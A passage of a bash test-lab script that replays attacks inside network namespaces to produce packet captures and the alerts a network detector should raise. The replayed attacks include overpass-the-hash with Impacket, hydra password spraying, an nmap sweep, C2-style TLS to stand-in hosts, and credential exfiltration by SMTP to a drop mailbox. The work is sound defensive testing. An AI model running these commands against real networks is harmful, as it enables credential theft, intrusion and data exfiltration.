  require external-proxy 2 "tcp dst port 1080 and dst host 10.77.1.10 and tcp[tcpflags] & tcp-push != 0"
  require external-proxy 2 "tcp dst port 3128 and dst host 10.77.1.10 and tcp[tcpflags] & tcp-syn != 0"
  require external-proxy 1 "tcp src port 5985 and src host 10.77.2.21 and tcp[tcpflags] & tcp-push != 0"
  expect external-proxy "Proxies across the perimeter (microsocks 1.0.3 as SOCKS 5, ncat --proxy-type http as web proxy, curl as client). Outbound: 10.77.2.21 fetches http://198.51.100.10/ through the SOCKS proxy on the Internet host 198.51.100.10:1080; 10.77.2.23 fetches two pages through the web proxy 203.0.113.66:3128 (absolute URIs) and 10.77.2.20 one with a CONNECT. Inbound: the Internet host 198.51.100.10 reaches 10.77.2.21:5985 through the server 10.77.1.10's SOCKS proxy (1080) and web proxy (CONNECT on 3128). 10.77.2.22 uses the server's proxies from inside: no alert. The server's proxies reaching WinRM on a workstation is lateral.server_to_workstation too; device.new may fire for the hosts whose first frames these are." \
    '[{"rule": "net.external_proxy", "source": {"ip": "10.77.2.21"}, "destination": {"ip": "198.51.100.10", "port": 1080}, "evidence": {"direction": "outbound", "via": "socks5", "target": "198.51.100.10:80", "granted": true}},
    {"rule": "net.external_proxy", "source": {"ip": "10.77.2.23"}, "destination": {"ip": "203.0.113.66", "port": 3128}, "evidence": {"direction": "outbound", "via": "http", "method": "GET", "requests": 2}},
    {"rule": "net.external_proxy", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "203.0.113.66", "port": 3128}, "evidence": {"direction": "outbound", "via": "http", "method": "CONNECT", "target": "198.51.100.10:80", "granted": true}},
    {"rule": "net.external_proxy", "source": {"ip": "198.51.100.10"}, "destination": {"ip": "10.77.1.10", "port": 1080}, "evidence": {"direction": "inbound", "via": "socks5", "target": "10.77.2.21:5985"}},
    {"rule": "net.external_proxy", "source": {"ip": "198.51.100.10"}, "destination": {"ip": "10.77.1.10", "port": 3128}, "evidence": {"direction": "inbound", "via": "http", "target": "10.77.2.21:5985"}}]' \
    '  "exclusive": true,
  "allow": ["device.new", "lateral.server_to_workstation"]'
}

scenario_doh() {
  # A public resolver on the Internet host: dnsdist answering every query itself with 198.51.100.10,
  # over DNS over TLS on 853 and DNS over HTTPS on 8443, with a self-signed certificate for dns.google.
  local d="$WORK/doh"
  mkdir -p "$d"
  openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=dns.google" -keyout "$d/key.pem" -out "$d/cert.pem" 2>/dev/null
  cat >"$d/dnsdist.conf" <<EOF2
setLocal("127.0.0.1:5399")
addTLSLocal("198.51.100.10:853", "$d/cert.pem", "$d/key.pem")
addDOHLocal("198.51.100.10:8443", "$d/cert.pem", "$d/key.pem", "/dns-query")
addAction(AllRule(), SpoofAction("198.51.100.10"))
EOF2
  scen_bg inet dnsdist --supervised --disable-syslog -C "$d/dnsdist.conf"
  wait_listen inet 853 && wait_listen inet 8443
  # 10.77.2.21: curl resolves the page's name over DoH at dns.google (pinned to the Internet host), then fetches it.
  nsx ws21 curl -s -o /dev/null --max-time 10 --doh-insecure --doh-url https://dns.google:8443/dns-query \
    --resolve dns.google:8443:198.51.100.10 http://www.lab-doh.example/ || true
  # 10.77.2.22: dig over DNS over TLS to the resolver's address.
  nsx ws22 timeout 10 dig +tls +time=3 +tries=1 @198.51.100.10 -p 853 www.lab-doh.example A >"$WORK/logs/doh-dig.txt" 2>&1 || true
  # Control: 10.77.2.23 makes an HTTPS connection to the same server under another name.
  nsx ws23 curl -s -o /dev/null -k --max-time 5 --resolve www.lab-doh.example:8443:198.51.100.10 https://www.lab-doh.example:8443/ || true
  stop_capture
  grep -q "198.51.100.10" "$WORK/logs/doh-dig.txt" || { log "doh: dig over TLS got no answer: $(tail -n 3 "$WORK/logs/doh-dig.txt")"; return 1; }
  require doh 1 "tcp dst port 8443 and src host 10.77.2.21 and tcp[tcpflags] & tcp-push != 0"
  require doh 1 "tcp dst port 80 and src host 10.77.2.21 and dst host 198.51.100.10 and tcp[tcpflags] & tcp-syn != 0"
  require doh 1 "tcp dst port 853 and src host 10.77.2.22 and tcp[tcpflags] & tcp-push != 0"
  require doh 1 "tcp dst port 8443 and src host 10.77.2.23 and tcp[tcpflags] & tcp-push != 0"
  expect doh "Encrypted DNS to a resolver on the Internet host (dnsdist 1.7.3 answering every query with 198.51.100.10; its certificate is self-signed for CN=dns.google). 10.77.2.21: curl 7.88 resolves www.lab-doh.example over DNS over HTTPS at https://dns.google:8443/dns-query (pinned to 198.51.100.10) and fetches the page from the answer; 10.77.2.22: dig 9.18 over DNS over TLS to 198.51.100.10:853; 10.77.2.23: an HTTPS page from the same server under another name (no alert). device.new may fire for the hosts whose first frames these are." \
    '[{"rule": "dns.encrypted", "source": {"ip": "10.77.2.21"}, "destination": {"ip": "198.51.100.10", "port": 8443}, "evidence": {"channels": ["DNS over HTTPS"], "server_name": "dns.google"}},
    {"rule": "dns.encrypted", "source": {"ip": "10.77.2.22"}, "destination": {"ip": "198.51.100.10", "port": 853}, "evidence": {"channels": ["DNS over TLS"]}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_overpass() {
  # An MIT KDC for LAB.EXAMPLE on the server 10.77.1.10 (its own configuration and database in the work dir);
  # alice's keys are AES and RC4, and she must pre-authenticate. MIT issues RC4 session keys only with allow_rc4,
  # as an Active Directory KDC does by default.
  local d="$WORK/kdc" gettgt=/usr/share/doc/python3-impacket/examples/getTGT.py nthash
  [ -f "$gettgt" ] || { log "overpass: Impacket's getTGT.py is missing ($gettgt)"; return 1; }
  mkdir -p "$d"
  cat >"$d/krb5.conf" <<EOF2
[libdefaults]
  default_realm = LAB.EXAMPLE
  allow_rc4 = true
  dns_lookup_kdc = false
  dns_lookup_realm = false
[realms]
  LAB.EXAMPLE = {
    kdc = 10.77.1.10
  }
EOF2
  cat >"$d/kdc.conf" <<EOF2
[kdcdefaults]
  kdc_listen = 10.77.1.10:88
  kdc_tcp_listen = 10.77.1.10:88
[realms]
  LAB.EXAMPLE = {
    database_name = $d/principal
    key_stash_file = $d/stash
    acl_file = $d/kadm5.acl
    supported_enctypes = aes256-cts-hmac-sha1-96:normal aes128-cts-hmac-sha1-96:normal arcfour-hmac:normal
  }
[logging]
  kdc = FILE:$d/kdc.log
EOF2
  : >"$d/kadm5.acl"
  local kenv=(env KRB5_CONFIG="$d/krb5.conf" KRB5_KDC_PROFILE="$d/kdc.conf")
  "${kenv[@]}" kdb5_util create -s -r LAB.EXAMPLE -P lab-master-pw >"$d/create.log" 2>&1 || { log "overpass: kdb5_util failed: $(tail -n 2 "$d/create.log")"; return 1; }
  "${kenv[@]}" kadmin.local -q "addprinc -pw Summer2026-lab +requires_preauth alice" >"$d/addprinc.log" 2>&1
  scen_bg srv "${kenv[@]}" krb5kdc -n
  wait_listen srv 88
  # 10.77.2.21: alice signs in with her password (kinit offers AES first).
  echo Summer2026-lab | nsx ws21 "${kenv[@]}" KRB5CCNAME="FILE:$d/cc-ws21" timeout 10 kinit alice >"$WORK/logs/overpass-kinit.txt" 2>&1
  # 10.77.2.22: a TGT for alice from her NT hash alone (Impacket getTGT.py -hashes: RC4 only). The KDC issues it;
  # Impacket 0.10 then cannot read MIT's reply (an EncTGSRepPart inside the AS-REP, which RFC 4120 allows) and saves nothing.
  nthash=$(/usr/bin/python3 -c 'from impacket.ntlm import compute_nthash; print(compute_nthash("Summer2026-lab").hex())')
  (cd "$d" && nsx ws22 timeout 20 /usr/bin/python3 "$gettgt" -hashes ":$nthash" -dc-ip 10.77.1.10 LAB.EXAMPLE/alice >"$WORK/logs/overpass-gettgt.txt" 2>&1)
  stop_capture
  grep -q "AS_REQ (1 etypes {DEPRECATED:arcfour-hmac(23)}) 10.77.2.22: ISSUE" "$d/kdc.log" || { log "overpass: the KDC issued no TGT to getTGT.py: $(tail -n 2 "$d/kdc.log")"; return 1; }
  [ -s "$d/cc-ws21" ] || { log "overpass: kinit got no ticket: $(tail -n 3 "$WORK/logs/overpass-kinit.txt")"; return 1; }
  require overpass 2 "port 88 and host 10.77.2.21"
  require overpass 2 "port 88 and host 10.77.2.22"
  expect overpass "Overpass-the-hash against an MIT Kerberos 1.20 KDC for LAB.EXAMPLE on 10.77.1.10 (alice has AES and RC4 keys and must pre-authenticate). 10.77.2.21: kinit alice with her password (AES offered first); 10.77.2.22: Impacket 0.10 getTGT.py -hashes with alice's NT hash (RC4 only, pre-authenticated with it after the KDC asks for it); the KDC issues both a TGT (Impacket cannot read MIT's AS-REP encoding and keeps none). device.new may fire for the hosts whose first frames these are." \
    '[{"rule": "kerberos.overpass_the_hash", "source": {"ip": "10.77.2.22"}, "destination": {"ip": "10.77.1.10", "port": 88}, "evidence": {"account": "alice@LAB.EXAMPLE", "requested_etypes": ["rc4-hmac"]}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_ping_sweep() {
  # A segment behind the router, 10.77.3.0/24, where only 10.77.3.1 and .2 are up: the router's own
  # addresses on its loopback, and a blackhole route for the rest (dropped there, nothing sent anywhere).
  nsx rtr ip addr add 10.77.3.1/32 dev lo
  nsx rtr ip addr add 10.77.3.2/32 dev lo
  nsx rtr ip route add blackhole 10.77.3.0/24
  # 10.77.2.20: nmap host discovery by ICMP echo alone over that segment (on its own link it would be ARP).
  nsx ws20 timeout 60 nmap -n -sn -PE --max-retries 0 10.77.3.0/24 >"$WORK/logs/ping-sweep.txt" 2>&1
  nsx rtr ip route del blackhole 10.77.3.0/24
  nsx rtr ip addr del 10.77.3.1/32 dev lo
  nsx rtr ip addr del 10.77.3.2/32 dev lo
  # Control: 10.77.2.21 pings two servers that are up, as a monitor does.
  nsx ws21 ping -c 2 -i 0.5 -W 2 10.77.1.10 >/dev/null 2>&1 || true
  nsx ws21 ping -c 2 -i 0.5 -W 2 10.77.1.20 >/dev/null 2>&1 || true
  stop_capture
  grep -q "hosts up" "$WORK/logs/ping-sweep.txt" || { log "ping-sweep: nmap did not finish: $(tail -n 3 "$WORK/logs/ping-sweep.txt")"; return 1; }
  require ping-sweep 200 "icmp[icmptype] == icmp-echo and src host 10.77.2.20"
  require ping-sweep 2 "icmp[icmptype] == icmp-echoreply and dst host 10.77.2.20 and src net 10.77.3.0/24"
  expect ping-sweep "nmap 7.93 -n -sn -PE over 10.77.3.0/24 from workstation 10.77.2.20: one ICMP echo request to each of 256 addresses of a segment behind the router, where only 10.77.3.1 and 10.77.3.2 answer. 10.77.2.21 pings two live servers twice each, as a monitor does (no alert). device.new may fire for the hosts whose first frames these are." \
    '[{"rule": "scan.ping", "source": {"ip": "10.77.2.20"}, "evidence": {"icmp_types": ["echo"], "answered_count": 2, "target_network": null}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_named_pipe() {
  # 10.77.2.20 asks Samba on workstation 10.77.2.21 for named pipes on IPC$ (test/lab/pipe-open.py, Impacket's
  # SMB client): srvsvc, which exists, then the pipes of PsExec and a Cobalt Strike SMB beacon, which Samba has not.
  nsx ws20 timeout 30 /usr/bin/python3 "$LAB_DIR/pipe-open.py" 10.77.2.21 srvsvc PSEXESVC msagent_4f >"$WORK/logs/named-pipe.txt" 2>&1
  stop_capture
  grep -q "srvsvc: opened" "$WORK/logs/named-pipe.txt" || { log "named-pipe: srvsvc did not open: $(tail -n 3 "$WORK/logs/named-pipe.txt")"; return 1; }
  grep -q "msagent_4f: STATUS_OBJECT_NAME_NOT_FOUND" "$WORK/logs/named-pipe.txt" || { log "named-pipe: unexpected answer: $(tail -n 3 "$WORK/logs/named-pipe.txt")"; return 1; }
  require named-pipe 10 "tcp port 445 and host 10.77.2.20 and host 10.77.2.21"
  expect named-pipe "Impacket 0.10's SMB client (test/lab/pipe-open.py) from 10.77.2.20 asks Samba on workstation 10.77.2.21 (guest) for three named pipes on IPC\$: srvsvc (opened), PSEXESVC (PsExec's) and msagent_4f (a Cobalt Strike SMB beacon's), both refused with STATUS_OBJECT_NAME_NOT_FOUND. The SMB sign-in between workstations is lateral.workstation_to_workstation too; device.new may fire for the hosts whose first frames these are." \
    '[{"rule": "smb.named_pipe", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "10.77.2.21", "port": 445}, "evidence": {"pipe": "PSEXESVC", "tool": "PsExec", "opened": false}},
    {"rule": "smb.named_pipe", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "10.77.2.21", "port": 445}, "evidence": {"pipe": "msagent_4f", "kind": "c2", "status": "STATUS_OBJECT_NAME_NOT_FOUND"}}]' \
    '  "exclusive": true,
  "allow": ["device.new", "lateral.workstation_to_workstation"]'
}

scenario_intel_direct() {
  local tls="$WORK/intel-direct-tls"
  mkdir -p "$tls"
  printf 'stage two\n' >"$WORK/www/stage2.bin"
  # A self-signed certificate naming the listed c2-beacon.malicious.example (lab fixture).
  openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=c2-beacon.malicious.example" \
    -keyout "$tls/key.pem" -out "$tls/cert.pem" 2>/dev/null
  scen_bg inet openssl s_server -quiet -accept 8443 -cert "$tls/cert.pem" -key "$tls/key.pem" -www
  # A web proxy on the server 10.77.1.10 (it resolves names through the lab DNS).
  scen_bg srv ncat -lk 3128 --proxy-type http
  wait_listen inet 8443 && wait_listen srv 3128
  # 10.77.2.21: TLS to a listed name from a hard-coded address (curl --resolve: no DNS lookup), SNI in clear.
  nsx ws21 curl -s -o /dev/null -k --noproxy '*' --max-time 5 --resolve c2-beacon.malicious.example:8443:203.0.113.66 \
    https://c2-beacon.malicious.example:8443/
  # 10.77.2.22: TLS 1.2 to a bare address, no SNI; the certificate names the listed host.
  nsx ws22 curl -s -o /dev/null -k --noproxy '*' --max-time 5 --tls-max 1.2 https://198.51.100.10:8443/
  # 10.77.2.23: a listed URL through the proxy (absolute URI); 10.77.2.20: a CONNECT to a listed name.
  nsx ws23 curl -s -o /dev/null --max-time 5 -x http://10.77.1.10:3128 http://payload.bad-cdn.test:8080/stage2.bin
  nsx ws20 curl -s -o /dev/null -k --max-time 5 -x http://10.77.1.10:3128 https://c2-beacon.malicious.example:8443/
  stop_capture
  require intel-direct 1 "tcp dst port 8443 and src host 10.77.2.21 and tcp[tcpflags] & tcp-push != 0"
  require intel-direct 1 "tcp dst port 8443 and src host 10.77.2.22 and tcp[tcpflags] & tcp-push != 0"
  require intel-direct 1 "tcp dst port 3128 and src host 10.77.2.23 and tcp[tcpflags] & tcp-push != 0"
  require intel-direct 1 "tcp dst port 3128 and src host 10.77.2.20 and tcp[tcpflags] & tcp-push != 0"
  require intel-direct 1 "udp dst port 53 and src host 10.77.1.10"
  expect intel-direct "Listed names reached without a client's own DNS lookup (indicators in ../intel-fixtures.md; curl 7.88, openssl s_server on the Internet host's 8443 with a self-signed certificate for CN=c2-beacon.malicious.example, ncat's HTTP proxy on 10.77.1.10:3128). 10.77.2.21: TLS 1.3 to c2-beacon.malicious.example at 203.0.113.66 (curl --resolve, SNI in clear); 10.77.2.22: TLS 1.2 to 198.51.100.10 by address (no SNI; the certificate names the listed host); 10.77.2.23: GET http://payload.bad-cdn.test:8080/stage2.bin through the proxy (a listed URL too); 10.77.2.20: CONNECT c2-beacon.malicious.example:8443 through the proxy. Only the proxy looks names up. The indicator rules need the fixture lists (test/detect/net.bad_name.test.ts and http.bad_url.test.ts load them)." \
    '[]' '  "matches": [
    {"kind": "domain", "indicator": "c2-beacon.malicious.example", "source": {"ip": "10.77.2.21"}, "where": "ssl.server_name"},
    {"kind": "domain", "indicator": "c2-beacon.malicious.example", "source": {"ip": "10.77.2.22"}, "where": "x509.common_name"},
    {"kind": "domain", "indicator": "payload.bad-cdn.test", "source": {"ip": "10.77.2.23"}, "where": "http.uri"},
    {"kind": "domain", "indicator": "c2-beacon.malicious.example", "source": {"ip": "10.77.2.20"}, "where": "http.connect"},
    {"kind": "domain", "indicator": "payload.bad-cdn.test", "source": {"ip": "10.77.1.10"}, "where": "dns.query"},
    {"kind": "domain", "indicator": "c2-beacon.malicious.example", "source": {"ip": "10.77.1.10"}, "where": "dns.query"}
  ]'
}

scenario_form_spray() {
  local i u
  # The same WordPress-style login on the server 10.77.1.10 (busybox httpd; its answer never says
  # "Dashboard", so hydra goes through every account).
  scen_bg srv busybox httpd -f -p 8081 -h "$WORK/www"
  wait_listen srv 8081
  for u in alice bob carol dave erin frank grace heidi ivan judy mallory oscar; do echo "$u"; done >"$WORK/form-users.txt"
  # Password spraying: one password, twelve accounts (hydra -L/-p, one task).
  (cd "$WORK" && nsx ws24 timeout 120 hydra -I -L "$WORK/form-users.txt" -p 'Winter2026!' -t 1 -s 8081 10.77.1.10 \
    http-post-form '/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:S=Dashboard' >"$WORK/logs/hydra-spray.txt" 2>&1) || true
  # A shared terminal server: the same twelve people signing in, each with a password of their own.
  i=0
  for u in alice bob carol dave erin frank grace heidi ivan judy mallory oscar; do
    i=$((i + 1))
    nsx ws21 curl -s -o /dev/null --noproxy '*' --max-time 5 -d "log=$u&pwd=Own-$u-$((i * 7919))" http://10.77.1.10:8081/wp-login.php || true
  done
  stop_capture
  grep -q "0 valid password" "$WORK/logs/hydra-spray.txt" || { log "form-spray: $(tail -n 3 "$WORK/logs/hydra-spray.txt")"; return 1; }
  require form-spray 12 "tcp dst port 8081 and src host 10.77.2.24 and tcp[tcpflags] & tcp-push != 0"
  require form-spray 12 "tcp dst port 8081 and src host 10.77.2.21 and tcp[tcpflags] & tcp-push != 0"
  expect form-spray "Password spraying against a WordPress-style login (log, pwd) on busybox httpd, port 8081 of the server 10.77.1.10, where no reply tells failure from success: hydra 9.4 http-post-form from 10.77.2.24 tries the one password Winter2026! on twelve accounts (-L/-p); hydra's user-agent gives it away too. 10.77.2.21, a shared terminal server, signs the same twelve people in, each with a password of their own: no alert. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.spray", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 8081}, "evidence": {"scope": "http", "outcomes_hidden": true, "accounts_count": 12}},
    {"rule": "ua.attack_tool", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 8081}, "evidence": {"tool": "hydra"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_ftp_files() {
  # vsftpd on the Internet host, anonymous (as the package's "ftp" account): a program and a text
  # file to fetch, an incoming/ to put to.
  local root="$WORK/ftp" conf="$WORK/vsftpd.conf" url=ftp://198.51.100.10
  mkdir -p "$root/pub" "$root/incoming" "$WORK/ftp-empty"
  pe_program "$root/pub/update.exe"
  for _ in $(seq 40); do echo "Lab mirror. Nothing to see here."; done >"$root/pub/README.txt"
  chmod 755 "$root" "$root/pub"; chmod 777 "$root/incoming"; chmod 644 "$root/pub/"*
  cat >"$conf" <<EOF
listen=YES
listen_address=198.51.100.10
background=NO
anonymous_enable=YES
local_enable=NO
no_anon_password=YES
write_enable=YES
anon_upload_enable=YES
anon_umask=022
anon_root=$root
ftp_username=ftp
nopriv_user=nobody
secure_chroot_dir=$WORK/ftp-empty
pasv_min_port=40000
pasv_max_port=40009
connect_from_port_20=NO
seccomp_sandbox=NO
xferlog_enable=NO
ftpd_banner=Lab FTP service ready
EOF
  scen_bg inet vsftpd "$conf"
  wait_listen inet 21
  # The program fetched three ways: EPSV (curl's default), PASV, and active mode with PORT.
  nsx ws20 curl -s -o /dev/null --noproxy '*' --max-time 10 "$url/pub/update.exe"
  nsx ws21 curl -s -o /dev/null --noproxy '*' --max-time 10 --disable-epsv "$url/pub/update.exe"
  nsx ws22 curl -s -o /dev/null --noproxy '*' --max-time 10 --ftp-port - --disable-eprt "$url/pub/update.exe"
  # ...put back (STOR) by another workstation, which then lists /pub/ and fetches a text file over EPRT.
  nsx ws23 curl -s -o /dev/null --noproxy '*' --max-time 10 -T "$root/pub/update.exe" "$url/incoming/tool.exe"
  nsx ws23 curl -s -o /dev/null --noproxy '*' --max-time 10 --ftp-port - "$url/pub/"
  nsx ws23 curl -s -o /dev/null --noproxy '*' --max-time 10 --ftp-port - "$url/pub/README.txt"
  stop_capture
  [ -s "$root/incoming/tool.exe" ] || { log "ftp-files: the upload did not arrive"; return 1; }
  require ftp-files 3 "tcp src port 21 and dst host 10.77.2.20 and tcp[tcpflags] & tcp-push != 0"
  require ftp-files 3 "tcp src port 21 and dst host 10.77.2.22 and tcp[tcpflags] & tcp-push != 0"
  require ftp-files 20 "tcp and src host 10.77.2.23 and dst host 198.51.100.10 and not port 21"
  expect ftp-files "Anonymous FTP with vsftpd on the Internet host 198.51.100.10; curl 7.88 clients. A Windows program (the pe_program helper's) /pub/update.exe is fetched by 10.77.2.20 in extended passive mode (EPSV), by 10.77.2.21 in passive mode (PASV) and by 10.77.2.22 in active mode (PORT: the server opens the data channel); 10.77.2.23 uploads it as /incoming/tool.exe (STOR), then lists /pub/ and fetches /pub/README.txt in extended active mode (EPRT). file.bad_hash's tests list the program; with the lab config ftp.executable_download alerts for the three workstations that fetched it (anonymous FTP sends no password, so auth.cleartext is quiet). device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "ftp.executable_download", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 21}},
    {"rule": "ftp.executable_download", "source": {"ip": "10.77.2.21"}, "destination": {"ip": "198.51.100.10", "port": 21}},
    {"rule": "ftp.executable_download", "source": {"ip": "10.77.2.22"}, "destination": {"ip": "198.51.100.10", "port": 21}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_mail_files() {
  # aiosmtpd on the mail server 10.77.1.10 (its Sink handler accepts and drops every message; a
  # self-signed certificate for STARTTLS). curl writes the messages; its EHLO name is the URL's path.
  local msg="$WORK/mail"
  mkdir -p "$msg"
  pe_program "$msg/invoice.exe"
  openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=mail.lab.example" \
    -keyout "$msg/key.pem" -out "$msg/cert.pem" >/dev/null 2>&1
  echo '<html><body><p>Please find the overdue invoice attached.</p></body></html>' >"$msg/body.html"
  scen_bg srv aiosmtpd -n -c aiosmtpd.handlers.Sink -l 10.77.1.10:25 --tlscert "$msg/cert.pem" --tlskey "$msg/key.pem" --no-requiretls
  wait_listen srv 25
  # From the Internet host (another domain's mail server): an invoice with a program attached,
  # as multipart/mixed holding a multipart/alternative text and HTML body and the base64 attachment.
  nsx inet curl -s --noproxy '*' --max-time 10 --url smtp://10.77.1.10:25/mx.invoices.example \
    --mail-from billing@invoices.example --mail-rcpt jdoe@lab.example --mail-rcpt ap@lab.example \
    -H 'From: Billing <billing@invoices.example>' -H 'To: jdoe@lab.example, "Accounts Payable" <ap@lab.example>' \
    -H 'Subject: Invoice 4471 overdue' -H 'Message-ID: <4471@invoices.example>' -H 'X-Mailer: Lab Mailer 1.0' \
    -H 'Received: from [203.0.113.66] by mx.invoices.example; Mon, 30 Nov 2026 20:00:00 +0000' \
    -F '=(;type=multipart/alternative' -F '=Please find the overdue invoice attached.;type=text/plain' \
    -F "=<$msg/body.html;type=text/html" -F '=)' \
    -F "=@$msg/invoice.exe;type=application/octet-stream;encoder=base64"
  # Inside: a workstation sends a plain note through the server; another starts TLS first.
  printf 'From: jdoe@lab.example\r\nTo: team@lab.example\r\nSubject: lunch\r\n\r\nNoon at the usual place.\r\n' >"$msg/note.txt"
  nsx ws20 curl -s --noproxy '*' --max-time 10 --url smtp://10.77.1.10:25/ws20.lab.example \
    --mail-from jdoe@lab.example --mail-rcpt team@lab.example -T "$msg/note.txt"
  nsx ws21 curl -s --noproxy '*' --max-time 10 --url smtp://10.77.1.10:25/ws21.lab.example --ssl-reqd -k \
    --mail-from ap@lab.example --mail-rcpt jdoe@lab.example -T "$msg/note.txt"
  stop_capture
  require mail-files 20 "tcp and src host 198.51.100.10 and dst host 10.77.1.10 and dst port 25"
  require mail-files 3 "tcp and src host 10.77.2.20 and dst port 25 and tcp[tcpflags] & tcp-push != 0"
  require mail-files 3 "tcp and src host 10.77.2.21 and dst port 25 and tcp[tcpflags] & tcp-push != 0"
  expect mail-files "SMTP to aiosmtpd 1.4 on the mail server 10.77.1.10; curl 7.88 clients. From the Internet host 198.51.100.10: a message to jdoe and ap with a Windows program (the pe_program helper's) attached as invoice.exe, base64, beside a multipart/alternative text and HTML body. From 10.77.2.20: a plain note. From 10.77.2.21: STARTTLS first (self-signed certificate), then the same note, encrypted. The program is a program by its content: smtp.executable_attachment fires for the sending host (file.bad_hash's tests list the program; the lab config has no list). device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "smtp.executable_attachment", "source": {"ip": "198.51.100.10"}, "destination": {"ip": "10.77.1.10", "port": 25}, "evidence": {"file_name": "invoice.exe", "mime_type": "application/x-dosexec", "disguised": false, "mail_from": "billing@invoices.example", "subject": "Invoice 4471 overdue"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_mail_out() {
  # Mail servers on the Internet host: aiosmtpd (Sink) on 25 for relaying and 587 for submission.
  scen_bg inet aiosmtpd -n -c aiosmtpd.handlers.Sink -l 198.51.100.10:25
  scen_bg inet aiosmtpd -n -c aiosmtpd.handlers.Sink -l 198.51.100.10:587
  wait_listen inet 25
  wait_listen inet 587
  local msg="$WORK/mail-out"
  mkdir -p "$msg"
  # Workstation 10.77.2.22 mails its loot straight to an outside mail server, as Agent Tesla does:
  # two messages with the stealer's subject style, each its own connection.
  printf 'From: ws22@lab.example\r\nTo: drop@mailbox.example\r\nSubject: PW_jdoe/WS22\r\n\r\nURL: https://intranet.lab.example\r\nUsername: jdoe\r\nPassword: Summer2026!\r\n' >"$msg/loot.txt"
  printf 'From: ws22@lab.example\r\nTo: drop@mailbox.example\r\nSubject: KL_jdoe/WS22\r\n\r\n[keystrokes] quarterly report draft\r\n' >"$msg/keys.txt"
  nsx ws22 curl -s --noproxy '*' --max-time 10 --url smtp://198.51.100.10:25/WS22 --mail-from ws22@lab.example --mail-rcpt drop@mailbox.example -T "$msg/loot.txt"
  nsx ws22 curl -s --noproxy '*' --max-time 10 --url smtp://198.51.100.10:25/WS22 --mail-from ws22@lab.example --mail-rcpt drop@mailbox.example -T "$msg/keys.txt"
  # No alert: the site's mail server 10.77.1.10 relays a message out (allowed_senders in picket.yaml),
  # and a workstation submits one to its provider on 587.
  printf 'From: jdoe@lab.example\r\nTo: partner@partner.example\r\nSubject: minutes\r\n\r\nAttached are the minutes.\r\n' >"$msg/minutes.txt"
  nsx srv curl -s --noproxy '*' --max-time 10 --url smtp://198.51.100.10:25/mail.lab.example --mail-from jdoe@lab.example --mail-rcpt partner@partner.example -T "$msg/minutes.txt"
  nsx ws23 curl -s --noproxy '*' --max-time 10 --url smtp://198.51.100.10:587/ws23.lab.example --mail-from ap@lab.example --mail-rcpt partner@partner.example -T "$msg/minutes.txt"
  stop_capture
  require mail-out 6 "tcp and src host 10.77.2.22 and dst port 25 and tcp[tcpflags] & tcp-push != 0"
  require mail-out 3 "tcp and src host 10.77.1.10 and dst port 25 and tcp[tcpflags] & tcp-push != 0"
  require mail-out 3 "tcp and src host 10.77.2.23 and dst port 587 and tcp[tcpflags] & tcp-push != 0"
  expect mail-out "SMTP from the site to aiosmtpd 1.4 on the Internet host 198.51.100.10; curl 7.88 clients. 10.77.2.22 sends two messages straight to its port 25, with an info-stealer's subjects (PW_jdoe/WS22, KL_jdoe/WS22). Must not alert: the mail server 10.77.1.10 relaying a message out (allowed_senders in the lab config), and 10.77.2.23 submitting one on port 587. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "smtp.direct_to_internet", "source": {"ip": "10.77.2.22"}, "destination": {"ip": "198.51.100.10", "port": 25}, "evidence": {"established": 2, "failed": 0, "messages": 2, "recipients": 2, "senders": ["ws22@lab.example"], "subjects": ["PW_jdoe/WS22", "KL_jdoe/WS22"]}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

# ------------------------------------------------------------------ runner
run_scenario() {
  local name=$1 fn="scenario_${1//-/_}" rc pid
  log "=== $name"
  if ! reset_lab; then log "$name: lab reset failed"; FAILED+=("$name"); return; fi
  # Subshell with errexit (not inside `if`, where bash would ignore -e): the first
  # failing step ends the scenario; the main script carries on with the next one.
  # It runs in the background so that `wait` returns at once when the script is
  # interrupted, and the EXIT trap can stop it.
  ( set -e; start_capture "$name"; "$fn" ) &
  SCEN_PID=$!
  wait "$SCEN_PID"
  rc=$?
  SCEN_PID=""
  # Stops the capture too if the scenario died before stopping it.
  kill_pidfile "$WORK/scenario.pids"
  if [ "$rc" -eq 0 ] && verify_capture "$name"; then
    mkdir -p "$OUT_DIR"
    cp "$WORK/$name.pcap" "$OUT_DIR/$name.pcap"
    cp "$WORK/$name.expect.json" "$OUT_DIR/$name.expect.json"
    DONE+=("$name")
  else
    log "$name: FAILED (rc $rc; the committed capture, if any, is left unchanged)"
    [ -f "$WORK/$name.pcap" ] && cp "$WORK/$name.pcap" "$WORK/logs/failed-$name.pcap"
    FAILED+=("$name")
  fi
  # The new device's namespace exists only for its own scenario.
  if ip netns list | grep -q "^${P}newdev"; then
    for pid in $(ip netns pids "${P}newdev"); do kill -KILL "$pid" 2>/dev/null; done
    ip netns del "${P}newdev"; rm -rf "/etc/netns/${P}newdev"
  fi
}

usage() {
  echo "usage: bash test/lab/run-lab.sh [scenario...]   (default: all)"
  echo "scenarios: ${ALL_SCENARIOS[*]}"
}

main() {
  local s wanted=()
  for s in "$@"; do
    case "$s" in
      -h|--help) usage; exit 0 ;;
      *) [[ " ${ALL_SCENARIOS[*]} " == *" $s "* ]] || { usage; die "unknown scenario: $s"; }
         wanted+=("$s") ;;
    esac
  done
  [ ${#wanted[@]} -eq 0 ] && wanted=("${ALL_SCENARIOS[@]}")
  preflight
  take_lock
